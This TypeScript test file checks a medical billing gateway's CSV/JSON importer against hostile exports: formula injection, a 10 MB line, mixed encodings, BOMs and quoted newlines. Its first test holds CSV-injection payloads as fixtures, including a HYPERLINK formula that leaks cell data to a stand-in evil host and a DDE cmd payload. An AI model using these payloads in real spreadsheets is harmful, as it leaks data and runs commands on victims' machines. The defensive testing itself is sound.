import { execFile } from "node:child_process";
import { createHash } from "node:crypto";
import { Readable } from "node:stream";
import { fileURLToPath } from "node:url";
import { promisify } from "node:util";
import iconv from "iconv-lite";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { FastifyInstance } from "fastify";
import { newApiToken } from "../http/api-auth.js";
import { buildGatewayApi } from "../http/build-gateway-api.js";
import type { GatewayStore } from "../store/gateway-store.js";
import { openSqliteStore } from "../store/sqlite-store.js";
import type { BilledItem } from "./billed-item.js";
import { collectBillingImport } from "./billing-import.js";
import { MIXED_LINE_CHECK_BYTES } from "./text-decoding.js";

/**
 * Hostile billing exports (issue 7, Tests): formula-injection cells, a 10 MB single line, mixed
 * encodings, BOMs and quoted newlines, through the REST import into the store and back out of every
 * JSON the gateway answers with. billing-import.test.ts covers the importer's basic cases of each;
 * this file covers what crosses into the store and the API, and the encodings' reverse cases.
 */
const run = promisify(execFile);
const KEY = createHash("sha256").update("hostile billing test key").digest();
const HEADER =
  "institution_code,settlement_id,line_id,patient_id_type,patient_id_number,patient_name,visit_type,item_code,item_name,service_start,service_end,quantity,unit,unit_price,amount,department,ward,bed,admission_date,service_date";
const NAMES = HEADER.split(",");
const GOOD_CELLS = ["H50010600123", "S1", "L1", "01", "11010519491231002X", "王秀英", "outpatient", "311000006", "血液透析", "2026-11-24 07:30", "2026-11-24 11:35", "1", "次", "400.00", "400.00", "肾内科", "", "", "", ""];

function row(overrides: Record<string, string>): string {
  const cells = [...GOOD_CELLS];
  for (const [name, value] of Object.entries(overrides)) {
    const index = NAMES.indexOf(name);
    if (index < 0) throw new Error(`no column ${name}`);
    cells[index] = value;
  }
  return cells.join(",");
}

const quoted = (text: string): string => `"${text.replace(/"/g, '""')}"`;
/** Spreadsheet formula leads (OWASP CSV injection): a string starting so runs when a spreadsheet opens it. */
const FORMULA_LEAD = /^[=+\-@\t\r]/;

function stringsIn(value: unknown, path = "$"): [string, string][] {
  if (typeof value === "string") return [[path, value]];
  if (Array.isArray(value)) return value.flatMap((v, i) => stringsIn(v, `${path}[${i}]`));
  if (value !== null && typeof value === "object") return Object.entries(value).flatMap(([k, v]) => stringsIn(v, `${path}.${k}`));
  return [];
}

describe("hostile billing exports through the REST import", () => {
  let store: GatewayStore;
  let app: FastifyInstance;
  let admin: string;

  beforeEach(async () => {
    store = openSqliteStore({ path: ":memory:" });
    await store.migrate();
    const token = newApiToken();
    await store.createApiToken({ name: "importer", role: "admin", site: null, tokenHash: token.tokenHash, createdAt: Date.now() });
    admin = token.token;
    app = await buildGatewayApi({ store, health: () => ({}), pseudonymKey: KEY });
  });

  afterEach(async () => {
    await app.close();
    await store.close();
  });

  async function post(body: string | Buffer | Readable, query = ""): Promise<{ status: number; json: Record<string, unknown> & { rejections: { code: string; row: number; column: string | null; reason: string; lineId: string | null }[] } }> {
    const response = await app.inject({ method: "POST", url: `/api/v1/billing${query}`, headers: { authorization: `Bearer ${admin}`, "content-type": "text/csv" }, payload: body });
    return { status: response.statusCode, json: response.json() };
  }

  async function storedItems(): Promise<BilledItem[]> {
    const page = await store.queryBilledItems({}, { limit: 100 });
    return page.items.map((record) => JSON.parse(record.body) as BilledItem);
  }

  it("stores formula-injection cells as inert text, and no JSON the gateway answers with carries a live formula", async () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")';
    const text = [
      HEADER,
      row({ line_id: "L1", department: quoted(hyperlink), item_name: quoted("+cmd|' /C calc'!A0"), patient_name: "@SUM(1+1)", ward: "-2+3", bed: quoted("=1+1") }),
      row({ line_id: quoted(hyperlink), settlement_id: "S2" }),
      row({ line_id: "L3", service_start: "=1+2" }),
    ].join("\n");
    const { status, json } = await post(`${text}\n`);
    expect(status).toBe(200);
    expect(json).toMatchObject({ stored: 1, rejected: 2 });
    expect(json.rejections).toEqual([
      expect.objectContaining({ code: "invalid_value", row: 3, column: "line_id" }),
      expect.objectContaining({ code: "unparseable_time", row: 4, column: "service_start", lineId: "L3" }),
    ]);
    // The rejected row's own line id was the formula: echoed, it is neutralised as display text is.
    expect(json.rejections[0]?.lineId).toBe(`'${hyperlink}`.slice(0, 65));

    const [item] = await storedItems();
    expect(item).toMatchObject({
      lineId: "L1",
      department: `'${hyperlink}`,
      itemName: "'+cmd|' /C calc'!A0",
      ward: "'-2+3",
      bed: "'=1+1",
      neutralised: ["patient_name", "item_name", "department", "ward", "bed"],
    });
    expect(item?.patientNameMasked.startsWith("'")).toBe(true);

    for (const [path, value] of [...stringsIn(json, "response"), ...stringsIn(await storedItems(), "stored")]) {
      expect(FORMULA_LEAD.test(value), `${path} = ${value}`).toBe(false);
    }
  });

  it("rejects a 10 MB single line (an unclosed quote) with its row and reason, streamed, and lands the rows around it", async () => {
    const tenMegabytes = 10 * 1024 * 1024;
    async function* body(): AsyncGenerator<Buffer> {
      yield Buffer.from(`${HEADER}\n${row({ line_id: "L1" })}\n${row({ line_id: "L2", item_name: '"血液透析' }).split('"血液透析')[0] ?? ""}"`);
      const chunk = Buffer.alloc(1024 * 1024, "透");
      for (let sent = 0; sent < tenMegabytes; sent += chunk.byteLength) yield chunk;
      yield Buffer.from(`"\n${row({ line_id: "L4" })}\n`);
    }
    const { status, json } = await post(Readable.from(body()));
    expect(status).toBe(200);
    expect(json).toMatchObject({ stored: 2, rejected: 1 });
    expect(json.rejections).toEqual([expect.objectContaining({ code: "row_too_large", row: 3, column: null })]);
    expect(json.rejections[0]?.reason).toMatch(/exceeds 65536/);
    expect((await storedItems()).map((i) => i.lineId).sort()).toEqual(["L1", "L4"]);
  });
});

describe("hostile billing exports: a 10 MB single line holds no more than a row's worth of memory", () => {
  const probe = fileURLToPath(new URL("./test-fixtures/long-line-probe.ts", import.meta.url));
  for (const encoding of ["utf-8", "gb18030"]) {
    it(`streams past it in a ${encoding} file, rejecting it with its row and reason, and lands the rows around it`, async () => {
      const { stdout } = await run(process.execPath, ["--expose-gc", "--import", "tsx", probe, encoding]);
      const result = JSON.parse(stdout) as { items: number; rejections: { code: string; row: number; reason: string }[]; retainedMb: number };
      expect(result.items).toBe(2);
      expect(result.rejections.map((r) => [r.code, r.row])).toEqual([["row_too_large", 3]]);
      expect(result.rejections[0]?.reason).toMatch(/^row of \d+ characters exceeds 65536$/);
      // Holding the line would retain 10 MB (as Buffers) or 7-20 MB (as a string); a row's worth is well under 1 MB.
      expect(result.retainedMb).toBeLessThan(3);
    }, 60_000);
  }
});

describe("hostile billing exports: encodings, BOMs and quoted newlines", () => {
  const collect = (bytes: Buffer, encoding: "auto" | "utf-8" | "gb18030" = "auto"): ReturnType<typeof collectBillingImport> =>
    collectBillingImport([bytes], { pseudonymKey: KEY, encoding });

  it("reads UTF-8 rows pasted into a GB18030 file as UTF-8 instead of landing them garbled", async () => {
    // Two- and four-character cells are the dangerous ones: as GB18030, their UTF-8 bytes pair up
    // into valid characters and nothing flags them (three-character cells leave a dangling byte).
    const utf8Row = row({ line_id: "U1", patient_name: "张伟", item_name: "血液透析", unit: "", department: "肾病中心" });
    const file = Buffer.concat([
      iconv.encode(`${HEADER}\n${row({ line_id: "G1", patient_name: "欧阳娜娜" })}\n`, "gb18030"),
      Buffer.from(`${utf8Row}\n`, "utf8"),
      iconv.encode(`${row({ line_id: "G2", item_name: "血液滤过" })}\n`, "gb18030"),
    ]);
    const result = await collect(file);
    expect(result.encoding).toBe("gb18030");
    expect(result.rejections).toEqual([]);
    expect(result.items.map((i) => [i.lineId, i.patientNameMasked, i.itemName, i.department])).toEqual([
      ["G1", "欧**娜", "血液透析", "肾内科"],
      ["U1", "张*", "血液透析", "肾病中心"],
      ["G2", "王*英", "血液滤过", "肾内科"],
    ]);
  });

  it("keeps GB18030 rows right when a UTF-8 row sits beside them in a file forced to GB18030", async () => {
    const file = Buffer.concat([Buffer.from(`${HEADER}\n${row({ line_id: "U1" })}\n`, "utf8"), iconv.encode(`${row({ line_id: "G1", patient_name: "李建国" })}\n`, "gb18030")]);
    const result = await collect(file, "gb18030");
    expect(result.rejections).toEqual([]);
    expect(result.items.map((i) => i.patientNameMasked)).toEqual(["王*英", "李*国"]);
  });

  it("streams an over-long line of a GB18030 file without holding it for the UTF-8 check", async () => {
    const long = iconv.encode("透".repeat(MIXED_LINE_CHECK_BYTES), "gb18030");
    const file = Buffer.concat([iconv.encode(`${HEADER}\n${row({ line_id: "G1" })}\n`, "gb18030"), long, iconv.encode(`\n${row({ line_id: "G3" })}\n`, "gb18030")]);
    const result = await collect(file);
    expect(result.items.map((i) => i.lineId)).toEqual(["G1", "G3"]);
    expect(result.rejections).toEqual([expect.objectContaining({ code: "row_too_large", row: 3 })]);
  });

  it("honours a GB18030 BOM, a UTF-16 BOM, and a UTF-8 BOM on JSON lines", async () => {
    const gbBom = Buffer.concat([Buffer.from([0x84, 0x31, 0x95, 0x33]), iconv.encode(`${HEADER}\n${row({ patient_name: "欧阳娜娜" })}\n`, "gb18030")]);
    const gb = await collect(gbBom);
    expect([gb.encoding, gb.rejections, gb.items[0]?.patientNameMasked]).toEqual(["gb18030", [], "欧**娜"]);

    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`${HEADER}\r\n${row({})}\r\n`, "utf16le")]);
    const wide = await collect(utf16);
    expect([wide.encoding, wide.rejections, wide.items[0]?.institution]).toEqual(["utf-16le", [], "H50010600123"]);

    const object = Object.fromEntries(NAMES.map((name, i) => [name, GOOD_CELLS[i] ?? ""]));
    const jsonLines = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(`${JSON.stringify(object)}\n`)]);
    const json = await collect(jsonLines);
    expect([json.rejections, json.items.map((i) => i.lineId)]).toEqual([[], ["L1"]]);
  });

  it("strips a UTF-8 BOM even when the encoding is forced to UTF-8", async () => {
    const result = await collect(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(`${HEADER}\n${row({})}\n`)]), "utf-8");
    expect(result.rejections).toEqual([]);
    expect(result.items).toHaveLength(1);
  });

  it("counts rows as a spreadsheet does across CRLF quoted newlines, and reports an unclosed quote at the end", async () => {
    const text = [
      HEADER,
      row({ line_id: "L1", item_name: quoted("血液透析\r\n(夜间)\r\n第二行") }),
      row({ line_id: "L2", department: quoted("肾内科\n透析室") }),
      row({ line_id: "L3", item_code: "bad" }),
      row({ line_id: "L4", item_name: '"血液透析' }),
    ].join("\r\n");
    const result = await collect(Buffer.from(`${text}\r\n${row({ line_id: "L5" })}\r\n`));
    expect(result.items.map((i) => i.lineId)).toEqual(["L1", "L2"]);
    expect(result.items[0]?.itemName).toBe("血液透析\r\n(夜间)\r\n第二行");
    // L5 sits inside L4's unclosed quote, so it is part of the one malformed record, as a spreadsheet reads it.
    // A record with quoted newlines is one spreadsheet row: header 1, L1 2 (three lines), L2 3, L3 4, L4 5.
    expect(result.rejections.map((r) => [r.code, r.row])).toEqual([
      ["unknown_item_code", 4],
      ["malformed_csv", 5],
    ]);
  });
});
